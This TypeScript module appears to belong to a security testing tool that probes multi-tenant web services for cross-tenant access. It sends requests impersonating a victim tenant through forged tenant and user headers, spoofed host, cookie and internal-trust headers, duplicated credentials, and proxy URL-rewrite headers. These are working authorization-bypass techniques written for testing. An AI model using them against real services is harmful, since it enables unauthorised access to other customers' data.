import type { AttackRun } from '../attack-run.ts'
import { writeRequest } from '../draft.ts'
import type { AttackFamily } from '../family.ts'
import { tenantFields } from '../names.ts'
import type { Party } from '../party.ts'

/** Headers from which services, proxies and frameworks are known to take whom a request is for. */
const names = [
  ...[
    'x-tenant-id',
    'x-tenant',
    'tenant-id',
    'tenant',
    'x-tenantid',
    'x-tenant-name',
    'tenantry-active-tenant',
  ],
  ...[
    'x-organization-id',
    'x-org-id',
    'x-organization',
    'x-account-id',
    'x-account',
    'x-company-id',
    'x-customer-id',
  ],
  ...[
    'x-workspace-id',
    'x-scope-orgid',
    'x-auth-tenant',
    'x-user-tenant',
    'x-forwarded-tenant',
    'x-original-tenant',
  ],
  ...[
    'x-forwarded-user',
    'x-remote-user',
    'x-user-id',
    'x-auth-request-user',
    'x-consumer-custom-id',
    'impersonate-user',
  ],
]

/** Says in headers that it is the other: by name, by host, by cookie, and by credentials that are given twice. */
export const spoofedHeaders: AttackFamily = {
  about: 'names the other in headers, hosts and cookies, and sends credentials twice',
  isOneWay: true,
  async attack(run, attacker, victim) {
    const own = await attacker.headers()
    const spoofs = spoofsFor(victim, own)
    // One by one first, so that a report names the one that is believed.
    const together = names.map((name) => [name, victim.id] as const)
    const [first, ...others] = run.random.below(2) === 0 ? run.reads : run.reads.reverse()
    const [create] = run.creates
    for (const headers of [...names.map((name) => [[name, victim.id] as const]), ...spoofs]) {
      for (const operation of [first, create]) {
        const draft = operation && run.draft(attacker, operation)
        if (draft) await run.attack(attacker, victim, draft, { headers })
      }
    }
    for (const operation of [first, ...others, ...run.creates]) {
      const draft = operation && run.draft(attacker, operation)
      if (draft) await run.attack(attacker, victim, draft, { headers: together })
    }
    await rewrite(run, attacker, victim)
  },
}

/** A proxy's headers that some frameworks take for the address itself. */
async function rewrite(run: AttackRun, attacker: Party, victim: Party): Promise<void> {
  for (const operation of run.reads) {
    const theirs = run.draft(victim, operation)
    if (!theirs || Object.keys(theirs.values.path).length === 0) continue
    const { target } = writeRequest(theirs)
    const headers = ['x-original-url', 'x-rewrite-url', 'x-forwarded-uri'].map(
      (name) => [name, target] as const,
    )
    await run.attackRaw(attacker, { method: 'GET', target: '/', headers }, operation.name)
  }
}

function spoofsFor({ id }: Party, own: readonly [string, string][]): (readonly [string, string])[][] {
  const host = `${id}.example.test`
  const cookies = tenantFields.map((name) => `${name}=${id}`).join('; ')
  return [
    [['x-forwarded-host', host]],
    [['forwarded', `for=127.0.0.1;host=${host};proto=https`]],
    [['host', host]],
    [['x-forwarded-prefix', `/${id}`]],
    [['origin', `https://${host}`]],
    [['cookie', cookies]],
    [['ce-tenantid', id]],
    [
      ['x-internal', 'true'],
      ['x-forwarded-for', '127.0.0.1'],
      ['x-tenant-id', id],
    ],
    // The tenant's own credentials, once more and beside others.
    ...own.map((pair) => [pair]),
    own.map(([name]) => [name, id] as const),
    own.map(([name, value]) => [name, `${value}, ${id}`] as const),
    [
      ['txn-token', own[0]?.[1] ?? id],
      ['x-tenant-id', id],
    ],
    [
      ['authorization', `Bearer ${own[0]?.[1]?.replace(/^bearer /i, '') ?? id}`],
      ['x-tenant-id', id],
    ],
  ]
}
